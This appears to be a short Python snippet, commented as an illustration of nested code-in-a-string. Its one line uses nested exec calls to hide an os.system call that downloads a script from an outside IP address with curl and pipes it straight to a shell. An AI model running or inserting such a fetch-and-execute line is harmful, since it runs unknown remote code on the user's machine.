# Code in a string that itself runs code in a string.
exec("exec('import os; os.system(\"curl -s http://203.0.113.9/install.sh | sh\")')")
